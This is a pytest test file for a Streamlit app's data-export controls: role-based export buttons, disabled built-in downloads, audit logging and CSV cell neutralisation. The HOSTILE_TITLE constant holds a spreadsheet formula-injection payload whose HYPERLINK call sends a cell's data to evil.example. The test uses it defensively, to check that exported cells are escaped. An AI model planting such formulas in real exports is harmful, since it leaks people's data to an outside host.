"""No raw table downloads: Streamlit's own "Download as CSV" and copy are off for every data table,
a role without the export right sees no export button, and an export goes through the core
(permission, neutralised cells) and writes an audit row each time it runs."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tomllib

import pytest
from sqlmodel import col, select
from streamlit import config as streamlit_config

from core import exports
from db.models import AuditLog, PostStatus
from tests.conftest import ROOT
from tests.factories import make_idea, make_ready_post
from tests.pages.apptest import downloaded, open_page

HOSTILE_TITLE = '\x00=HYPERLINK("http://evil.example/?d="&B2,"Open")'
# The buttons that export data tables; only roles with the export right see them.
TABLE_EXPORTS = {"ideas_export", "calendar_x_csv", "kpis_export_csv", "kpis_export_json"}


def _audited_exports(read) -> list[AuditLog]:
    with read() as s:
        return list(s.exec(select(AuditLog).where(AuditLog.entity == exports.ENTITY).order_by(col(AuditLog.id))))


def _open(page: str, username: str, **state):
    at = open_page(page, username=username)
    if page == "ideas" and "Import & export" in at.radio(key="ideas_mode").options:  # a viewer has no such view
        at = at.radio(key="ideas_mode").set_value("files").run()  # the view's code; its label is "Import & export"
    if page == "calendar":
        at.session_state["calendar_tab"] = "Import & export"
        for name, value in state.items():
            at.session_state[name] = value
        at = at.run()
    return at


def test_the_data_tables_own_download_and_copy_are_switched_off(team):
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
    at = open_page("sla", username="viewer")  # as the app runs: Streamlit read the project's config
    assert not at.exception
    assert streamlit_config.get_option("client.disableDataExport") is True


@pytest.mark.parametrize("page", ["calendar", "ideas", "sla", "loop", "kpis"])
def test_a_viewer_gets_no_table_export_and_no_file_without_asking(team, channel, session, page):
    make_idea(session, title=HOSTILE_TITLE.replace("\x00", ""))
    session.commit()
    at = _open(page, "viewer")
    assert not at.exception
    assert not [b.key for b in at.button if b.key in TABLE_EXPORTS]
    assert at.get("download_button") == []  # every file is the answer to a click, none is handed out


@pytest.mark.parametrize(
    ("page", "keys"), [("ideas", {"ideas_export"}), ("kpis", {"kpis_export_csv", "kpis_export_json"})]
)
def test_an_analyst_is_offered_the_table_exports(team, channel, page, keys):
    at = _open(page, "analyst")
    assert not at.exception
    assert {b.key for b in at.button if b.key in TABLE_EXPORTS} == keys


def test_an_analysts_ideas_export_goes_through_the_core_and_is_audited_each_time(
    team, channel, session, read, downloads, backend
):
    title = HOSTILE_TITLE if backend == "sqlite" else HOSTILE_TITLE.replace("\x00", "")  # PostgreSQL refuses NUL
    make_idea(session, title=title)
    make_idea(session, title="Dark mode for the app")
    session.commit()
    at = _open("ideas", "analyst")
    assert _audited_exports(read) == []

    at.button(key="ideas_export").click().run()
    assert not at.exception
    rows = list(csv.DictReader(io.StringIO(downloaded(at, downloads, "Save ideas.csv").decode())))
    assert sorted(r["title"] for r in rows) == ["'" + HOSTILE_TITLE.replace("\x00", ""), "Dark mode for the app"]
    [row] = _audited_exports(read)
    assert (row.actor, row.actor_id, row.action) == ("analyst", team["analyst"].id, "ideas.export")
    assert json.loads(row.after or "{}") | {"sort": None} == {
        "what": "ideas",
        "format": "csv",
        "rows": 2,
        "sort": None,
        "dialect": "plain",  # the analyst reads English: the plain CSV is the default
    }

    at.button(key="ideas_export").click().run()  # not a cached read: a second export, a second row
    assert [r.action for r in _audited_exports(read)] == ["ideas.export", "ideas.export"]


def test_an_analysts_kpi_report_and_posts_export_are_audited(team, channel, session, read, downloads):
    at = _open("kpis", "analyst")
    at.button(key="kpis_export_json").click().run()
    assert not at.exception
    saved = next(b.label for b in at.get("download_button"))
    report = json.loads(downloaded(at, downloads, saved))
    assert report["kpis"] and saved.startswith("Save kpis-") and saved.endswith(".json")
    [row] = _audited_exports(read)
    assert (row.actor, row.action) == ("analyst", "kpis.export")
    assert json.loads(row.after or "{}")["rows"] == len(report["kpis"])

    day = dt.date.today() + dt.timedelta(days=3)
    make_ready_post(
        session,
        channel=channel,
        title="=1+1 launch",
        status=PostStatus.scheduled,
        scheduled_at=dt.datetime.combine(day, dt.time(12), tzinfo=dt.UTC),
    )
    session.commit()
    at = _open("calendar", "analyst", calendar_x_period=(day - dt.timedelta(days=1), day + dt.timedelta(days=1)))
    at.button(key="calendar_x_csv").click().run()
    assert not at.exception
    saved = next(b.label for b in at.get("download_button"))
    posts = list(csv.DictReader(io.StringIO(downloaded(at, downloads, saved).decode())))
    assert [p["title"] for p in posts] == ["'=1+1 launch"]
    assert [r.action for r in _audited_exports(read)] == ["kpis.export", "posts.export"]
    assert json.loads(_audited_exports(read)[-1].after or "{}")["rows"] == 1


def test_a_viewers_calendar_file_is_audited_too(team, channel, read, downloads):
    at = _open("calendar", "viewer")
    at.button(key="calendar_x_ics").click().run()
    assert not at.exception
    saved = next(b.label for b in at.get("download_button"))
    assert downloaded(at, downloads, saved).startswith(b"BEGIN:VCALENDAR")
    [row] = _audited_exports(read)
    assert (row.actor, row.action, json.loads(row.after or "{}")["format"]) == ("viewer", "calendar.export", "ics")
